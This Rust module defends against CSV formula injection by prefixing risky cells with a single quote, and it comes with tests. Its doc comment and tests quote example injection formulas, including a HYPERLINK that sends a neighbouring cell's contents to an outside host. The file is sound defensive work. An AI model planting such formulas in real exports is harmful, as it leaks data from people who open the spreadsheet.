//! A CSV cell a spreadsheet reads as text. A cell starting with `=`, `+`, `-`
//! or `@` (or a tab or carriage return, which some spreadsheets skip before
//! reading one of those) is taken as a formula by Excel, WPS and LibreOffice:
//! `=HYPERLINK("http://…?d="&A2,"点击查看")` as an enterprise name would run
//! when the ledger is opened. OWASP's advice: prefix a single quote, which the
//! spreadsheet shows as text and does not display. Every CSV qinqing writes
//! passes each cell through [`text`].

use std::borrow::Cow;

/// The cell as written: prefixed with `'` when a spreadsheet would read it as a formula.
pub(crate) fn text(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_the_rest_stays() {
        for f in ["=1+1", "+86 139", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "=HYPERLINK(\"http://x\",\"点击\")"] {
            assert_eq!(text(f), format!("'{f}"));
        }
        for keep in ["湖州甲公司", "1+1", "", "'already", "95.97%", "—"] {
            assert_eq!(text(keep), keep);
        }
    }
}
